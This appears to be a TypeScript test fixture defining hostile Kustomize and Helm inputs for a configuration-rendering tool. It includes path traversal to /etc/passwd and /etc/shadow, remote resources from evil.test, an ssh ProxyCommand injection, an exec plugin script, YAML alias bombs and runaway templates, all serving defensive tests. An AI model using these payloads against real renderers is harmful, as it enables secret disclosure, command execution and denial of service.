import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Files, HELMS, KUBECTL } from '../render/rendering.ts';
import { writeFiles } from '../source/folder.ts';
import { MARK } from './harmless.ts';
import { type Hostile, lines, pod } from './hostile.ts';

const [HELM] = HELMS.flatMap(([, path]) => path ?? []);

/** Where the tools are that render, if they are: first in the `PATH`. */
export const TOOLS: readonly string[] = [KUBECTL, HELM].flatMap((path) => path ?? []);

const NOT_RENDERED = { named: ['kustomize-'], incomplete: true } as const;

/** What a kustomization of head's root says, beside a file that it changes. */
function kustomization(name: string, text: string, more: () => Files = () => ({})): Hostile {
  return {
    name: `a kustomization ${name}`,
    ...NOT_RENDERED,
    files: () => ({ 'kustomization.yaml': `namespace: a\n${text}\n`, 'a.yaml': pod('a', {}), ...more() }),
  };
}

const KUSTOMIZATIONS: readonly Hostile[] = [
  kustomization('of a file of the system', 'resources: [/etc/passwd]'),
  kustomization('of folders far above', 'resources: [../../../../../../../etc]'),
  kustomization('of what lies above, by way of what lies below', 'resources: [a/../../../outside]'),
  kustomization('of the network', 'resources: ["https://evil.test/a.yaml"]'),
  kustomization('of a repository', `resources: ["git::ssh://evil.test/${MARK}?ref=main"]`),
  kustomization('of a command for ssh', `resources: ["git::ssh://-oProxyCommand=touch%20pwned/${MARK}"]`),
  kustomization('of itself', 'resources: [a.yaml, .]'),
  kustomization('that makes a secret of a file of the system', 'secretGenerator: [{name: a, files: [/etc/shadow]}]'),
  kustomization('that has a plugin run', 'resources: [a.yaml]\ngenerators: [plugin.yaml]', () => ({
    'plugin.yaml':
      'apiVersion: a/v1\nkind: Exec\nmetadata: {name: a, annotations: {config.kubernetes.io/function: "exec: {path: ./a.sh}"}}\n',
    'a.sh': '#!/bin/sh\ntouch pwned\n',
  })),
  kustomization('that inflates a chart of the network', 'helmCharts: [{name: a, repo: "https://evil.test"}]'),
  kustomization('of 20,000 parts', `resources:\n${lines(20_000, (i) => `- part-${i}`)}`),
  kustomization('in a circle of 300', 'resources: [k0]', () =>
    Object.fromEntries(
      Array.from({ length: 300 }, (_, i) => [
        `k${i}/kustomization.yaml`,
        `namespace: a\nresources: [../k${(i + 1) % 300}]\n`,
      ]),
    ),
  ),
  kustomization('that doubles twenty times', 'resources: [k0]', () => ({
    ...Object.fromEntries(
      Array.from({ length: 20 }, (_, i) => [
        [`k${i}/kustomization.yaml`, 'resources: [a, b]\n'],
        [`k${i}/a/kustomization.yaml`, `namePrefix: a\nresources: [../../k${i + 1}]\n`],
        [`k${i}/b/kustomization.yaml`, `namePrefix: b\nresources: [../../k${i + 1}]\n`],
      ]).flat(),
    ),
    'k20/kustomization.yaml': 'resources: [a.yaml]\n',
    'k20/a.yaml': pod('a', {}),
  })),
  kustomization('of aliases of aliases', 'resources: [bomb.yaml]', () => ({
    'bomb.yaml': `apiVersion: v1\nkind: Pod\nmetadata: {name: a}\na0: &a0 [x]\n${lines(12, (i) => `a${i + 1}: &a${i + 1} [${`*a${i},`.repeat(9)}]`)}\n`,
  })),
];

const CONFIGURATION = 'clusters: [{name: a, helm: [{chart: chart, release: a, namespace: shop}]}]\n';

/** A chart whose template says this, and a configuration in base that has it rendered. */
function chart(name: string, template: string, more: Partial<Hostile> = {}): Hostile {
  return {
    name: `a Helm chart ${name}`,
    named: ['helm-'],
    incomplete: true,
    words: (folder) => {
      const files = { 'chart/Chart.yaml': 'apiVersion: v2\nname: a\nversion: 1.0.0\n' };
      const from = (version: string) =>
        Object.fromEntries(Object.entries(files).map(([path, text]) => [`${version}/${path}`, text]));
      writeFiles(folder, {
        ...from('base'),
        ...from('head'),
        'base/.github/network-policy-diff.yml': CONFIGURATION,
        'head/.github/network-policy-diff.yml': CONFIGURATION,
        'base/chart/templates/a.yaml': '',
        'head/chart/templates/a.yaml': template,
      });
      return ['diff', 'base', 'head'];
    },
    ...more,
  };
}

const CHARTS: readonly Hostile[] = [
  chart('that includes itself', '{{ define "a" }}{{ include "a" . }}{{ end }}{{ include "a" . }}'),
  chart('that never ends', '{{ range until 1000000 }}{{ range until 1000000 }}{{ end }}{{ end }}'),
  chart(
    'that doubles a text forty times',
    '{{ $a := "aaaaaaaa" }}{{ range until 40 }}{{ $a = print $a $a }}{{ end }}{{ $a }}',
  ),
  chart('that writes without end', '{{ range until 10000000 }}a: {{ repeat 100 "x" }}\n---\n{{ end }}'),
  chart('that wants the system’s files', '{{ .Files.Get "../../../etc/passwd" }}{{ required "none" (env "HOME") }}'),
  chart(
    'that asks the cluster and the network',
    '{{ required "none" (lookup "v1" "Secret" "" "a") }}{{ getHostByName "evil.test" }}',
  ),
  {
    name: 'a Helm chart of 5,000 templates, and nothing said of it',
    named: ['helm'],
    incomplete: true,
    words: (folder) => {
      writeFiles(folder, { 'head/Chart.yaml': `name: ${MARK}\n`, 'head/templates/0.yaml': '' });
      for (let i = 0; i < 5_000; i++) writeFileSync(join(folder, `head/templates/${i}.yaml`), 'a: {{ x }}');
      return ['diff', 'base', 'head'];
    },
  },
];

/** What is made for the tools that render, and for those who start them. */
export const RENDERED: readonly Hostile[] = [...KUSTOMIZATIONS, ...CHARTS];
